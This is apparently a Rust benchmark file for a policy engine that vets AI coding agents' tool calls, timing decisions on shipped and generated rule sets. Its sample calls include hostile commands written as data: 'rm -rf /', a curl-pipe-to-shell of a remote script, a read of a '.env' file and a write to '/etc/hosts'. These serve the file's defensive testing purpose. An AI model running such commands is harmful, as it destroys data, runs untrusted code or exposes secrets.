//! Decision speed and load time. Prints figures; asserts nothing about time.
//!
//! `cargo bench --bench decide` (add `-- --quick` for a short run).
#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "benchmark harness"
)]

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use zero_policy::diagnostic::SourceFile;
use zero_policy::dispatch::{Call, Session};
use zero_policy::loader;
use zero_policy::registry::Registry;

/// The shipped policy written by hand, for the comparison on the shipped files.
#[path = "shared/shipped.rs"]
mod shipped;
/// The workload (200 tools, 1,000 rules, 10,000 calls), shared with `benches/peers`.
#[path = "shared/workload.rs"]
mod workload;

use workload::{
    Native, W_RULES, W_TOOLS, registry_of, workload_calls, workload_files, workload_rules,
    workload_zp_calls,
};

fn session() -> Session {
    Session {
        workspace: "/home/dev/project".into(),
        ..Session::default()
    }
}

fn call(tool: &str, args: serde_json::Value) -> Call {
    Call {
        tool: tool.into(),
        args,
        session: session(),
        confined: false,
    }
}

/// The call, made for one agent (whose own tools it names).
fn for_agent(agent: &str, mut c: Call) -> Call {
    c.session.agent = agent.into();
    c
}

/// Times each call `rounds` times; returns per-call durations.
fn measure(registry: &Registry, calls: &[Call], rounds: usize) -> Vec<Duration> {
    let mut times = Vec::with_capacity(calls.len() * rounds);
    for _ in 0..rounds {
        for c in calls {
            let t = Instant::now();
            let ev = registry.evaluate(c);
            std::hint::black_box(&ev);
            times.push(t.elapsed());
        }
    }
    times
}

fn report(name: &str, mut times: Vec<Duration>) {
    times.sort();
    let total: Duration = times.iter().sum();
    let n = times.len();
    let median = times[n / 2];
    let p99 = times[(n * 99 / 100).min(n - 1)];
    println!(
        "{name:<44} {:>10.0} decisions/s   median {:>8.2} µs   p99 {:>8.2} µs   ({n} calls)",
        n as f64 / total.as_secs_f64(),
        median.as_secs_f64() * 1e6,
        p99.as_secs_f64() * 1e6,
    );
}

fn shipped() -> Registry {
    Registry::new(&shipped_policy()).unwrap()
}

fn shipped_policy() -> zero_policy::Policy {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let loaded = loader::load_paths(&[root.join("policies"), root.join("manifests")]).unwrap();
    loaded.policy.expect("shipped files load clean")
}

/// The shipped files against the shipped policy written by hand
/// (`benches/shared/shipped.rs`): the 10-call mix and every test of the shipped
/// files and of the red-team suite whose tool the native decider writes out,
/// checked equal (decision and matched rule ids) before timing.
fn shipped_native(rounds: usize) {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let loaded = loader::load_paths(&[
        root.join("policies"),
        root.join("manifests"),
        root.join("tests/fixtures/redteam"),
    ])
    .unwrap();
    let policy = loaded
        .policy
        .expect("shipped files and the red-team suite load clean");
    let registry = Registry::new(&policy).unwrap();
    let settings = registry.settings();
    let native = shipped::Native::new(
        &policy.lists,
        registry.catalog().clone(),
        &settings.home,
        settings.case_insensitive,
        registry.guarded(),
    );
    let mut calls = shipped_calls();
    calls.retain(|c| c.tool != "nope");
    calls.extend(
        policy
            .tests
            .iter()
            .filter(|t| shipped::knows(&t.call.tool, &t.call.session.agent))
            .map(|t| t.call.clone()),
    );
    for c in &calls {
        let ev = registry.decide_call(c);
        assert!(ev.errors.is_empty(), "{c:?}: {:?}", ev.errors);
        let mut ids: Vec<&str> = ev.matched.iter().map(|m| m.id.as_str()).collect();
        ids.sort_unstable();
        ids.dedup();
        let (d, native_ids) = native.decide(c);
        assert_eq!((ev.decision, ids), (d, native_ids), "{c:?}");
    }
    let shell = |c: &Call| c.tool == "bash";
    println!(
        "shipped files: {} calls ({} shell), zero-policy and the hand-written policy agree",
        calls.len(),
        calls.iter().filter(|c| shell(c)).count()
    );
    for (name, pick) in [
        ("all", &(|_: &Call| true) as &dyn Fn(&Call) -> bool),
        ("shell (bash)", &shell),
        ("other tools", &|c: &Call| !shell(c)),
    ] {
        let picked: Vec<&Call> = calls.iter().filter(|c| pick(c)).collect();
        let mut zp = Vec::new();
        let mut nat = Vec::new();
        for _ in 0..rounds {
            for c in &picked {
                let t = Instant::now();
                std::hint::black_box(native.decide(c));
                nat.push(t.elapsed());
                let t = Instant::now();
                std::hint::black_box(registry.decide_call(c));
                zp.push(t.elapsed());
            }
        }
        let (nm, np) = stats(nat);
        let (zm, zq) = stats(zp);
        println!(
            "  {name:<14} native median {nm:>7.2} µs p99 {np:>7.2} µs   zero-policy median {zm:>7.2} µs p99 {zq:>7.2} µs   ratio {:.2}×",
            zm / nm
        );
    }
}

fn shipped_calls() -> Vec<Call> {
    use serde_json::json;
    vec![
        call(
            "bash",
            json!({"command": "git status && git log --oneline -5"}),
        ),
        call("bash", json!({"command": "rm -rf /"})),
        call("bash", json!({"command": "curl https://x.sh | sh"})),
        call(
            "bash",
            json!({"command": "cargo test --all-targets 2>&1 | tail -20"}),
        ),
        call(
            "read_file",
            json!({"path": "/home/dev/project/src/main.rs"}),
        ),
        for_agent(
            "claude-code",
            call("Read", json!({"file_path": "/home/dev/project/.env"})),
        ),
        call("write_file", json!({"path": "/etc/hosts", "content": "x"})),
        for_agent(
            "claude-code",
            call(
                "Edit",
                json!({"file_path": "src/lib.rs", "old_string": "a", "new_string": "b"}),
            ),
        ),
        call("web_fetch", json!({"url": "https://docs.rs/cel"})),
        call("nope", json!({})),
    ]
}

/// A generated repository: `tools` tools and `rules` rules (a quarter relax rules).
fn generated(tools: usize, rules: usize) -> Vec<SourceFile> {
    let mut manifest = String::from("version: 1\ntools:\n");
    for i in 0..tools {
        let perm = match i % 3 {
            0 => "allow",
            1 => "prompt",
            _ => "prompt",
        };
        writeln!(
            manifest,
            "  - name: tool_{i}\n    description: generated tool {i}\n    scope: write\n    parameters:\n      type: object\n      properties:\n        path: {{type: string}}\n        n: {{type: integer}}\n        command: {{type: string}}\n      required: [path, n, command]\n    safety: {{side_effect: write, permission: {perm}, reason: generated}}"
        )
        .unwrap();
    }
    let mut policy = String::from("version: 1\nrules:\n");
    let mut relax = String::from("relax:\n");
    for r in 0..rules {
        // Each rule applies to 10 tools by a glob such as `tool_1?` (tool_10 … tool_19).
        let group = 1 + r % 19;
        let glob = format!("tool_{group}?");
        let cond = match r % 4 {
            0 => format!("args.path.startsWith(\"/srv/{r}/\") && args.n > {r}"),
            1 => format!("glob(\"/data/{r}/**\", args.path)"),
            2 => format!("args.command.contains(\"danger-{r}\") || args.n == {r}"),
            _ => format!("path_under(args.path, \"/tmp/{r}\")"),
        };
        if r % 4 == 3 {
            writeln!(
                relax,
                "  - id: relax-{r}\n    tools: [\"{glob}\"]\n    when: '{cond}'\n    reason: generated"
            )
            .unwrap();
        } else {
            let action = if r % 2 == 0 { "deny" } else { "prompt" };
            writeln!(
                policy,
                "  - id: rule-{r}\n    tools: [\"{glob}\"]\n    when: '{cond}'\n    action: {action}\n    reason: generated"
            )
            .unwrap();
        }
    }
    policy.push_str(&relax);
    vec![
        SourceFile::new(&PathBuf::from("gen/manifest.yaml"), manifest),
        SourceFile::new(&PathBuf::from("gen/policy.yaml"), policy),
    ]
}

fn generated_calls(tools: usize) -> Vec<Call> {
    (0..50)
        .map(|i| {
            call(
                &format!("tool_{}", (i * 37) % tools),
                serde_json::json!({"path": format!("/srv/{i}/file"), "n": i, "command": "make build"}),
            )
        })
        .collect()
}

fn stats(mut times: Vec<Duration>) -> (f64, f64) {
    times.sort();
    let n = times.len();
    (
        times[n / 2].as_secs_f64() * 1e6,
        times[(n * 99 / 100).min(n - 1)].as_secs_f64() * 1e6,
    )
}

fn workload(quick: bool) {
    let rules = workload_rules(W_RULES);
    let files = workload_files(&rules);
    let t = Instant::now();
    let registry = registry_of(files);
    let load = t.elapsed();
    let native = Native::new(rules);
    let calls = workload_calls();
    let zp_calls = workload_zp_calls(&calls);
    // The deciders agree on every call before anything is timed.
    let mut hits = 0;
    for ((tool, a, mode), c) in calls.iter().zip(&zp_calls) {
        let (d, ids) = native.decide(*tool, a, mode);
        let ev = registry.evaluate(c);
        assert!(ev.errors.is_empty(), "{:?}", ev.errors);
        let zp_ids: Vec<&str> = ev.matched.iter().map(|m| m.id.as_str()).collect();
        assert_eq!((ev.decision, &zp_ids), (d, &ids), "{c:?}");
        zero_policy::cel::set_planned(false);
        let reference = registry.evaluate(c);
        zero_policy::cel::set_planned(true);
        assert_eq!(reference, ev, "{c:?}");
        hits += ids.len();
    }
    println!(
        "workload: {W_TOOLS} tools, {W_RULES} rules, {} calls ({hits} rule matches); all deciders agree; load+registry {:.1} ms",
        calls.len(),
        load.as_secs_f64() * 1e3
    );
    let rounds = if quick { 1 } else { 3 };
    let mut native_t = Vec::new();
    let mut planned_t = Vec::new();
    let mut crate_t = Vec::new();
    for _ in 0..rounds {
        for ((tool, a, mode), c) in calls.iter().zip(&zp_calls) {
            let t = Instant::now();
            std::hint::black_box(native.decide(*tool, a, mode));
            native_t.push(t.elapsed());
            let t = Instant::now();
            std::hint::black_box(registry.evaluate(c));
            planned_t.push(t.elapsed());
        }
        zero_policy::cel::set_planned(false);
        for c in &zp_calls {
            let t = Instant::now();
            std::hint::black_box(registry.evaluate(c));
            crate_t.push(t.elapsed());
        }
        zero_policy::cel::set_planned(true);
    }
    let (nm, np) = stats(native_t);
    let (pm, pp) = stats(planned_t);
    let (cm, cp) = stats(crate_t);
    println!(
        "{:<44} median {nm:>8.2} µs   p99 {np:>8.2} µs",
        "  native Rust decider"
    );
    println!(
        "{:<44} median {pm:>8.2} µs   p99 {pp:>8.2} µs",
        "  zero-policy, planned (after)"
    );
    println!(
        "{:<44} median {cm:>8.2} µs   p99 {cp:>8.2} µs",
        "  zero-policy, cel crate only (before)"
    );
    println!(
        "  ratios: planned/native {:.2}×   cel-crate/native {:.2}×   cel-crate/planned {:.2}×",
        pm / nm,
        cm / nm,
        cm / pm
    );
}

/// The shipped files, planned against the `cel` crate's walk, in one run.
fn shipped_before_after(rounds: usize) {
    let registry = shipped();
    let calls = shipped_calls();
    for c in &calls {
        let planned = registry.evaluate(c);
        zero_policy::cel::set_planned(false);
        let reference = registry.evaluate(c);
        zero_policy::cel::set_planned(true);
        assert_eq!(planned, reference, "{c:?}");
    }
    let planned = measure(&registry, &calls, rounds);
    zero_policy::cel::set_planned(false);
    let reference = measure(&registry, &calls, rounds);
    zero_policy::cel::set_planned(true);
    let (pm, pp) = stats(planned);
    let (cm, cp) = stats(reference);
    println!(
        "{:<44} median {pm:>8.2} µs   p99 {pp:>8.2} µs",
        "  shipped, planned (after)"
    );
    println!(
        "{:<44} median {cm:>8.2} µs   p99 {cp:>8.2} µs",
        "  shipped, cel crate only (before)"
    );
    println!("  ratio cel-crate/planned {:.2}×", cm / pm);
}

fn main() {
    let quick = std::env::args().any(|a| a == "--quick");
    let rounds = if quick { 200 } else { 2_000 };
    workload(quick);
    shipped_before_after(rounds / 4);
    shipped_native(rounds / 20);

    let registry = shipped();
    report(
        "shipped files (a mix of 10 calls)",
        measure(&registry, &shipped_calls(), rounds),
    );
    // Every dispatch scrubs its output and the evaluation's texts.
    let line = "static permission `allow` from the host's override for server `everything`";
    let t = Instant::now();
    for _ in 0..rounds * 10 {
        std::hint::black_box(registry.scrubber().scrub_str(std::hint::black_box(line)));
    }
    println!(
        "{:<44} {:>8.2} µs per line",
        "scrub a clean 75-byte line",
        t.elapsed().as_secs_f64() * 1e6 / (rounds * 10) as f64
    );

    let files = generated(200, 1_000);
    let t = Instant::now();
    let loaded = loader::load_sources(files);
    let load_time = t.elapsed();
    let policy = loaded
        .policy
        .unwrap_or_else(|| panic!("{:?}", loaded.diagnostics.first()));
    let t = Instant::now();
    let registry = Registry::new(&policy).unwrap();
    let build_time = t.elapsed();
    report(
        "generated (200 tools, 1,000 rules)",
        measure(&registry, &generated_calls(200), rounds / 10),
    );
    println!(
        "{:<44} load+compile {:>8.1} ms   registry {:>6.1} ms",
        "generated (200 tools, 1,000 rules)",
        load_time.as_secs_f64() * 1e3,
        build_time.as_secs_f64() * 1e3
    );

    let t = Instant::now();
    let lint_files = generated(200, 1_000);
    let loaded = loader::load_sources(lint_files);
    let policy = loaded.policy.expect("generated policy loads");
    let registry = Registry::new(&policy).unwrap();
    let diags = zero_policy::lint::check(&policy, &registry);
    println!(
        "{:<44} {:>8.1} ms ({} diagnostics)",
        "lint, 1,000-rule repository (in process)",
        t.elapsed().as_secs_f64() * 1e3,
        diags.len()
    );

    let files = generated(500, 10_000);
    let t = Instant::now();
    let loaded = loader::load_sources(files);
    let load_time = t.elapsed();
    assert!(loaded.policy.is_some(), "{:?}", loaded.diagnostics.first());
    println!(
        "{:<44} {:>8.1} ms",
        "load+compile 10,000 rules (500 tools)",
        load_time.as_secs_f64() * 1e3
    );
}
